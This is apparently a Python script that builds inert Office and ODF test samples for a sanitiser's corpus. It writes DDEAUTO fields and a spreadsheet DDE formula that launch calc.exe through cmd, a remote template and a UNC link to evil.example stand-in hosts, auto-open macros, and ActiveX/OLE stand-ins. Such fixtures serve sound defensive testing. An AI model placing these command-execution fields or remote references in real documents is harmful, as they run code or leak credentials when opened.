#!/usr/bin/env python3
"""Generates the Office samples in corpus/samples/office/ (run from anywhere).

Every package is built with zipfile from literal XML, so what each sample contains is visible
here. The "malicious" parts are inert stand-ins: a vbaProject.bin holding VBA source text, OLE
and ActiveX parts with the right names and content types but no working payload, DDE fields
that would start calc.exe. Nothing here runs anything.

The legacy .doc is made by LibreOffice from text when `soffice` is installed (the committed
file is the result); without soffice the existing file is left as it is.
"""

from __future__ import annotations

import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "samples" / "office"
DATE = (2024, 4, 1, 9, 0, 0)

RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

# A 1x1 PNG (red pixel).
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082"
)


def write_zip(name: str, members: list[tuple[str, bytes | str]], stored: tuple[str, ...] = ()) -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    path = OUT / name
    with zipfile.ZipFile(path, "w") as zf:
        for member, data in members:
            info = zipfile.ZipInfo(member, DATE)
            info.compress_type = zipfile.ZIP_STORED if member in stored else zipfile.ZIP_DEFLATED
            zf.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    print(f"wrote {path.relative_to(OUT.parent.parent)} ({path.stat().st_size} bytes)")


def rels(*items: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    out = [DECL, f'<Relationships xmlns="{REL_NS}">']
    for it in items:
        rid, typ, target = it[0], it[1], it[2]
        mode = ' TargetMode="External"' if len(it) > 3 else ""
        if not typ.startswith("http"):
            typ = f"{RT}/{typ}"
        out.append(f'<Relationship Id="{rid}" Type="{typ}" Target="{target}"{mode}/>')
    out.append("</Relationships>")
    return "".join(out)


def types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    d = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    d.update(defaults or {})
    out = [DECL, f'<Types xmlns="{CT_NS}">']
    out += [f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in d.items()]
    out += [f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides.items()]
    out.append("</Types>")
    return "".join(out)


def para(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def document(body: str, extra_ns: str = "") -> str:
    return (f'{DECL}<w:document xmlns:w="{W_NS}" xmlns:r="{RT}" '
            f'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'
            f'{extra_ns}><w:body>{body}<w:sectPr/></w:body></w:document>')


STYLES = (f'{DECL}<w:styles xmlns:w="{W_NS}"><w:docDefaults><w:rPrDefault><w:rPr>'
          '<w:rFonts w:eastAsia="Noto Sans CJK JP"/><w:lang w:val="ja-JP"/></w:rPr></w:rPrDefault>'
          '</w:docDefaults></w:styles>')
CORE = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>サンプル</dc:title></cp:coreProperties>')


def docx(name: str, body: str, *, main_ct: str = WORD_MAIN, doc_rels: list = (), root_extra: list = (),
         extra_members: list = (), extra_types: dict | None = None, defaults: dict | None = None,
         settings: str | None = None, settings_rels: list = ()) -> None:
    overrides = {
        "/word/document.xml": main_ct,
        "/word/styles.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml",
        "/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
    }
    drels = [("rIdStyles", "styles", "styles.xml"), *doc_rels]
    members: list[tuple[str, bytes | str]] = []
    if settings is not None:
        overrides["/word/settings.xml"] = \
            "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
        drels.append(("rIdSettings", "settings", "settings.xml"))
        members.append(("word/settings.xml", settings))
        if settings_rels:
            members.append(("word/_rels/settings.xml.rels", rels(*settings_rels)))
    overrides.update(extra_types or {})
    head = [
        ("[Content_Types].xml", types(overrides, defaults)),
        ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"),
                             ("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/"
                                      "metadata/core-properties", "docProps/core.xml"),
                             *root_extra)),
        ("docProps/core.xml", CORE),
        ("word/document.xml", document(body)),
        ("word/styles.xml", STYLES),
        ("word/_rels/document.xml.rels", rels(*drels)),
    ]
    write_zip(name, head + members + list(extra_members))


def fake_ole(label: str) -> bytes:
    """An OLE2 header followed by a label: looks like a compound file, does nothing."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 24 + label.encode("utf-16-le")


def gen_ooxml() -> None:
    # 1. docm with a VBA project: becomes a macro-free docx.
    docx("macro.docm", para("見積書（マクロ付き）") + para("金額: 12,000円"),
         main_ct="application/vnd.ms-word.document.macroEnabled.main+xml",
         doc_rels=[("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "vbaProject.bin")],
         defaults={"bin": "application/vnd.ms-office.vbaProject"},
         extra_members=[("word/vbaProject.bin",
                         fake_ole("_VBA_PROJECT") + b"Attribute VB_Name = \"ThisDocument\"\r\n"
                         b"Sub AutoOpen()\r\n  MsgBox \"inert sample\"\r\nEnd Sub\r\n")])

    # 2. Remote template injection (CVE-2021-40444 style): attachedTemplate, external target.
    docx("remote_template.docx", para("テンプレート参照付きの文書"),
         settings=f'{DECL}<w:settings xmlns:w="{W_NS}" xmlns:r="{RT}">'
                  '<w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="840"/></w:settings>',
         settings_rels=[("rId1", "attachedTemplate",
                         "http://template.evil.example/payload.dotm", "External")])

    # 3. DDEAUTO field split across two runs, plus a DDE fldSimple.
    dde = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
           '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>請求金額</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
           '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>合計</w:t></w:r></w:fldSimple></w:p>')
    docx("ddeauto.docx", para("DDE フィールドの検体") + dde)

    # 4. customUI with an onLoad callback (reached from the package root).
    docx("customui.docx", para("リボン付き文書"),
         root_extra=[("rIdUI", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                      "customUI/customUI14.xml")],
         extra_members=[("customUI/customUI14.xml",
                         '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
                         'onLoad="RibbonOnLoad"><ribbon/></customUI>')])

    # 5. External image (tracking/NTLM leak) and a hyperlink; an embedded PNG stays.
    body = (para("外部画像とリンク")
            + '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>ログインページ</w:t></w:r></w:hyperlink></w:p>'
            + '<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdRemote"/>'
              '</v:shape></w:pict></w:r></w:p>'
            + '<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdPng"/>'
              '</v:shape></w:pict></w:r></w:p>')
    docx("external_image_link.docx", body,
         doc_rels=[("rIdLink", "hyperlink", "https://login.evil.example/phish", "External"),
                   ("rIdRemote", "image", "http://tracker.evil.example/pixel.png", "External"),
                   ("rIdPng", "image", "media/image1.png")],
         defaults={"png": "image/png"},
         extra_members=[("word/media/image1.png", PNG)])

    # 6. Plain Japanese document: must come out clean with its text.
    docx("japanese_plain.docx",
         para("令和6年度 予算執行状況報告書") + para("総務課より各課長へ。①〜⑩の項目を確認してください。㈱山田商事"))

    # 7. xlsx with a DDE formula and an externalLink carrying a ddeLink.
    sheet_ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    write_zip("dde_external.xlsx", [
        ("[Content_Types].xml", types({
            "/xl/workbook.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "/xl/worksheets/sheet1.xml": sheet_ct,
            "/xl/externalLinks/externalLink1.xml":
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        })),
        ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
        ("xl/workbook.xml", f'{DECL}<workbook xmlns="{S_NS}" xmlns:r="{RT}"><sheets>'
                            '<sheet name="集計" sheetId="1" r:id="rId1"/></sheets>'
                            '<externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>'),
        ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml"),
                                            ("rId2", "externalLink", "externalLinks/externalLink1.xml"))),
        ("xl/worksheets/sheet1.xml",
         f'{DECL}<worksheet xmlns="{S_NS}"><sheetData>'
         '<row r="1"><c r="A1" t="inlineStr"><is><t>項目</t></is></c><c r="B1"><v>100</v></c></row>'
         "<row r=\"2\"><c r=\"A2\"><f>cmd|'/c calc.exe'!A0</f><v>0</v></c>"
         '<c r="B2"><f>SUM(B1,1)</f><v>101</v></c></row></sheetData></worksheet>'),
        ("xl/externalLinks/externalLink1.xml",
         f'{DECL}<externalLink xmlns="{S_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
         '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'),
        ("xl/externalLinks/_rels/externalLink1.xml.rels",
         rels(("rId1", "externalLinkPath", "file:///\\\\evil.example\\share\\book.xlsx", "External"))),
    ])

    gen_pptx()


FODP = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation">
<office:body><office:presentation><draw:page draw:name="p1">
<draw:frame svg:x="2cm" svg:y="2cm" svg:width="20cm" svg:height="3cm"><draw:text-box>
<text:p>会議資料スライド</text:p></draw:text-box></draw:frame></draw:page></office:presentation></office:body>
</office:document>
"""


def soffice_convert(src: Path, fmt: str, outdir: Path, extra: tuple[str, ...] = ()) -> Path | None:
    exe = shutil.which("soffice")
    if exe is None:
        return None
    with tempfile.TemporaryDirectory() as prof:
        subprocess.run([exe, f"-env:UserInstallation=file://{prof}", "--headless", "--norestore",
                        *extra, "--convert-to", fmt, "--outdir", str(outdir), str(src)],
                       check=True, capture_output=True, timeout=180)
    out = outdir / (src.stem + "." + fmt.split(":")[0])
    return out if out.exists() else None


def gen_pptx() -> None:
    """A LibreOffice-made pptx with an ActiveX control and an Equation Editor OLE object added."""
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / "base.fodp"
        src.write_text(FODP, encoding="utf-8")
        base = soffice_convert(src, "pptx", Path(tmp))
        if base is None:
            print("soffice not installed: activex_ole.pptx left as it is")
            return
        with zipfile.ZipFile(base) as zf:
            members = {i.filename: zf.read(i) for i in zf.infolist()}
    slide_rels = "ppt/slides/_rels/slide1.xml.rels"
    extra_rels = (f'<Relationship Id="rIdOle" Type="{RT}/oleObject" Target="../embeddings/oleObject1.bin"/>'
                  f'<Relationship Id="rIdAx" Type="{RT}/control" Target="../activeX/activeX1.xml"/>')
    members[slide_rels] = members[slide_rels].decode().replace("</Relationships>", extra_rels + "</Relationships>").encode()
    slide = members["ppt/slides/slide1.xml"].decode()
    ole = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="90" name="Equation"/><p:cNvGraphicFramePr/><p:nvPr/>'
           '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>'
           f'<a:graphic><a:graphicData uri="{P_NS.rsplit("/", 1)[0]}/ole">'
           '<p:oleObj xmlns:r="' + RT + '" progId="Equation.3" r:id="rIdOle" imgW="100" imgH="100"><p:embed/></p:oleObj>'
           '</a:graphicData></a:graphic></p:graphicFrame>')
    slide = slide.replace("</p:spTree>", ole + "</p:spTree>", 1)
    slide = slide.replace("</p:cSld>", '</p:cSld><p:controls><p:control xmlns:r="' + RT +
                          '" spid="91" name="CommandButton1" r:id="rIdAx"/></p:controls>' if "<p:controls" not in slide else "</p:cSld>", 1)
    members["ppt/slides/slide1.xml"] = slide.encode()
    ct = members["[Content_Types].xml"].decode()
    ct = ct.replace("</Types>",
                    '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
                    '<Override PartName="/ppt/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
                    '</Types>')
    members["[Content_Types].xml"] = ct.encode()
    members["ppt/embeddings/oleObject1.bin"] = fake_ole("Equation Native")
    members["ppt/activeX/activeX1.xml"] = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag"/>').encode()
    order = ["[Content_Types].xml"] + [n for n in members if n != "[Content_Types].xml"]
    write_zip("activex_ole.pptx", [(n, members[n]) for n in order])


ODF_MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def gen_odf() -> None:
    """odt with a Basic macro bound to the open event, an event listener and an embedded object."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    ns = (f'xmlns:office="{office}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.3"')
    content = (f'{DECL}<office:document-content {ns}>'
               '<office:scripts><office:event-listeners>'
               '<script:event-listener script:language="ooo:script" script:event-name="office:load" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.AutoOpen?language=Basic&amp;location=document" xlink:type="simple"/>'
               '</office:event-listeners></office:scripts>'
               '<office:body><office:text>'
               '<text:p>マクロ付き ODF 文書</text:p>'
               '<text:p><text:a xlink:type="simple" xlink:href="https://phish.evil.example/login">こちら</text:a></text:p>'
               '<text:p><draw:frame draw:name="Obj" svg:width="2cm" svg:height="2cm">'
               '<draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
               '<draw:image xlink:href="./ObjectReplacements/Object 1" xlink:type="simple"/></draw:frame></text:p>'
               '<text:p><draw:frame draw:name="Remote" svg:width="1cm" svg:height="1cm">'
               '<draw:image xlink:href="http://tracker.evil.example/p.png" xlink:type="simple"/></draw:frame></text:p>'
               '</office:text></office:body></office:document-content>')
    styles = f'{DECL}<office:document-styles {ns}><office:styles/></office:document-styles>'
    basic = ('<?xml version="1.0" encoding="UTF-8"?>\n<script:module xmlns:script="http://openoffice.org/2000/script" '
             'script:name="Module1" script:language="StarBasic">Sub AutoOpen\n  MsgBox "inert sample"\nEnd Sub\n'
             '</script:module>')
    manifest = (f'{DECL}<manifest:manifest xmlns:manifest="{ODF_MANIFEST_NS}" manifest:version="1.3">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
                '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>'
                '<manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/vnd.oasis.opendocument.formula"/>'
                '<manifest:file-entry manifest:full-path="Object 1/content.xml" manifest:media-type="text/xml"/>'
                '<manifest:file-entry manifest:full-path="ObjectReplacements/Object 1" manifest:media-type="application/x-openoffice-gdimetafile;windows_formatname=&quot;GDIMetaFile&quot;"/>'
                '</manifest:manifest>')
    write_zip("macro_listener.odt", [
        ("mimetype", "application/vnd.oasis.opendocument.text"),
        ("content.xml", content),
        ("styles.xml", styles),
        ("Basic/Standard/Module1.xml", basic),
        ("Basic/Standard/script-lb.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<library:library '
         'xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" '
         'library:passwordprotected="false"><library:element library:name="Module1"/></library:library>'),
        ("Object 1/content.xml", f'{DECL}<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>'),
        ("ObjectReplacements/Object 1", b"VCLMTF\x01\x00inert"),
        ("META-INF/manifest.xml", manifest),
    ], stored=("mimetype",))


def gen_lo_plain() -> None:
    """LibreOffice's own odt and ods (settings, thumbnail, Configurations2 and all): clean."""
    with tempfile.TemporaryDirectory() as tmp:
        txt = Path(tmp) / "japanese_lo.txt"
        txt.write_text("令和6年度 事業計画書\n各課は別紙のとおり提出してください。\n", encoding="utf-8")
        csv = Path(tmp) / "budget_lo.csv"
        csv.write_text("項目,金額\n人件費,1200000\n物件費,350000\n", encoding="utf-8")
        # CSV filter options: comma, double quote, UTF-8 (76), start at line 1.
        for src, fmt, extra in ((txt, "odt", ()), (csv, "ods", ("--infilter=CSV:44,34,76,1",))):
            out = soffice_convert(src, fmt, Path(tmp), extra)
            if out is None:
                print(f"soffice not installed: {src.stem}.{fmt} left as it is")
                continue
            shutil.copyfile(out, OUT / out.name)
            print(f"wrote samples/office/{out.name} ({(OUT / out.name).stat().st_size} bytes)")


def gen_legacy() -> None:
    """Legacy binary doc/xls, written by LibreOffice's MS Office 97 filters."""
    with tempfile.TemporaryDirectory() as tmp:
        t = Path(tmp)
        (t / "legacy.txt").write_text("旧形式の文書（Word 97-2003）\n各課長へ: 会議は 10 時からです。\n",
                                      encoding="utf-8")
        (t / "legacy_book.csv").write_text("旧形式の表,金額\n備品,45000\n", encoding="utf-8")
        jobs = (("legacy.txt", "doc:MS Word 97", (), "legacy.doc"),
                ("legacy_book.csv", "xls:MS Excel 97", ("--infilter=CSV:44,34,76,1",), "legacy_book.xls"))
        # (A LibreOffice-made .ppt is ~450 KB, over the corpus size guideline: the converter's
        # unit test makes one on the fly instead.)
        for src, fmt, extra, name in jobs:
            out = soffice_convert(t / src, fmt, t, extra)
            if out is None:
                print(f"soffice not installed: {name} left as it is")
                continue
            OUT.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(out, OUT / name)
            print(f"wrote samples/office/{name} ({(OUT / name).stat().st_size} bytes)")


if __name__ == "__main__":
    gen_ooxml()
    gen_odf()
    gen_lo_plain()
    gen_legacy()
